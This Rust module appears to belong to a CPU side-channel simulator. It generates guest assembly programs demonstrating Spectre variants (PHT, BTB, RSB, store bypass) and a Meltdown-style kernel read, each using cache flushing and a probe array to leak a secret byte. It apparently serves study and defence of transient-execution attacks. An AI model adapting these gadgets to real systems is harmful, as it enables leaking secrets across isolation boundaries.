//! Guest sources for the attack scenarios. Each program trains (where the
//! variant needs it), flushes the probe array, then triggers one transient
//! access to secret byte `i`.

use std::fmt::Write;

use super::{Barrier, Variant};
use crate::os::kernel::KSECRET;

const FLUSH: &str = "
    xor r9, r9
flush_loop:
    clflush [probe + r9]
    add r9, 0x1000
    cmp r9, 0x100000
    jne flush_loop
";

fn bytes(b: &[u8]) -> String {
    b.iter()
        .map(|v| v.to_string())
        .collect::<Vec<_>>()
        .join(", ")
}

/// Probe array first so it sits at the start of `.data`.
fn data(secret: &[u8], user_secret: bool) -> String {
    let mut s = String::from(
        ".data
probe: .zero 0x100000
len: .quad 16
array: .byte 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16
.align 8
fptr: .quad 0
ptr: .quad 0
",
    );
    if user_secret {
        writeln!(s, "nospec secret: .byte {}", bytes(secret)).unwrap();
    }
    s
}

fn pht(i: usize, barrier: Barrier) -> String {
    let before = if barrier == Barrier::Lfence {
        "    lfence\n"
    } else {
        ""
    };
    let after = if barrier == Barrier::Misplaced {
        "    lfence\n"
    } else {
        ""
    };
    format!(
        ".text
_start:
    mov r12, 6
train:
    xor r7, r7
    call victim
    sub r12, 1
    jne train
{FLUSH}
    clflush [len]
    mov r7, secret - array + {i}
    call victim
    halt
victim:
    mov r1, [len]
    cmp r7, r1
    jae skip
{before}    xor r2, r2
    mov.b r2, [array + r7]
    shl r2, 12
    mov.b r3, [probe + r2]
{after}skip:
    ret
"
    )
}

fn btb(i: usize) -> String {
    format!(
        ".text
_start:
    mov r12, 4
    mov r8, gadget
    mov [fptr], r8
train:
    call victim
    sub r12, 1
    jne train
    mov r8, benign
    mov [fptr], r8
{FLUSH}
    call victim
    halt
victim:
    xor r5, r5
    mov.b r5, [secret + {i}]
    call [fptr]
    xor r5, r5
    ret
gadget:
    shl r5, 12
    mov.b r3, [probe + r5]
    ret
benign:
    ret
"
    )
}

fn rsb(i: usize) -> String {
    format!(
        ".text
_start:
{FLUSH}
    xor r5, r5
    mov.b r5, [secret + {i}]
    call f
    shl r5, 12
    mov.b r3, [probe + r5]
    halt
f:
    mov r8, done
    mov [sp], r8
    ret
done:
    xor r5, r5
    halt
"
    )
}

fn stl(i: usize) -> String {
    format!(
        ".text
_start:
{FLUSH}
    mov r8, secret + {i}
    mov [ptr], r8
    clflush [ptr]
    mov r8, [ptr]
    xor r9, r9
    mov.b [r8], r9
    xor r2, r2
    mov.b r2, [secret + {i}]
    shl r2, 12
    mov.b r3, [probe + r2]
    halt
"
    )
}

fn md(i: usize) -> String {
    format!(
        ".text
_start:
{FLUSH}
    xor r2, r2
    mov.b r2, [{:#x}]
    shl r2, 12
    mov.b r3, [probe + r2]
    mov r0, 0
    mov r1, 0
    syscall
",
        KSECRET + i as u64
    )
}

pub fn source(variant: Variant, barrier: Barrier, secret: &[u8], i: usize) -> String {
    let text = match variant {
        Variant::Pht => pht(i, barrier),
        Variant::Btb => btb(i),
        Variant::Rsb => rsb(i),
        Variant::Stl => stl(i),
        Variant::Md => md(i),
    };
    text + &data(secret, variant != Variant::Md)
}
